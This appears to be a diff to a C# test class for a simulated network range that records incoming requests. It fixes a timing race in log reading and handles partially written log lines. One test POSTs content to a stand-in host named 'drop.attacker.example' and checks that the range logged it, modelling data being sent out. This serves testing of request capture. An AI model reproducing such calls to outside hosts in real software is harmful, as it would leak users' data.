@@ -33,7 +33,6 @@ public sealed class InstrumentTests(RangeUnderTest range) : IClassFixture<RangeU
     {
         const string Filter = "host=ledger.corp.example&path=/_range/stream";
         using var client = range.NewClient();
-        using var leaving = new CancellationTokenSource();
         await using (
             var body = await client.GetStreamAsync("https://ledger.corp.example/_range/stream", Runner.Cancellation))
         {
@@ -129,7 +128,9 @@ public sealed class InstrumentTests(RangeUnderTest range) : IClassFixture<RangeU
         using var response = await client.PostAsync(
             "https://drop.attacker.example/any/path?with=query", content, Runner.Cancellation);
 
-        var line = LogLines().Single(static one => one.Text("path") == "/any/path?with=query");
+        // The line is written when the request has ended, which is a moment after its answer.
+        await UntilAsync(() => Task.FromResult(FindInLog() is not null));
+        var line = FindInLog()!.Value;
 
         Assert.Equal("drop.attacker.example", line.Text("host"));
         Assert.Equal("POST", line.Text("method"));
@@ -172,13 +173,21 @@ public sealed class InstrumentTests(RangeUnderTest range) : IClassFixture<RangeU
         Assert.Equal(250, after.GetProperty("entries")[after.Number("count") - 1].Number("amount_cents"));
     }
 
+    private JsonElement? FindInLog()
+    {
+        var found = LogLines().Where(static one => one.Text("path") == "/any/path?with=query").ToArray();
+        Assert.True(found.Length <= 1, "One request is one line.");
+        return found.Length == 0 ? null : found[0];
+    }
+
     private JsonElement[] LogLines()
     {
         // The range holds the file open.
         using var file = new FileStream(
             Path.Combine(range.StateFolder, "received.jsonl"), FileMode.Open, FileAccess.Read, FileShare.ReadWrite);
         using var reader = new StreamReader(file);
-        var lines = reader.ReadToEnd().Split('\n', StringSplitOptions.RemoveEmptyEntries);
+        // The last part is empty, or a line that is still being written.
+        var lines = reader.ReadToEnd().Split('\n')[..^1];
         return [.. lines.Select(static line => JsonElement.Parse(line))];
     }
 
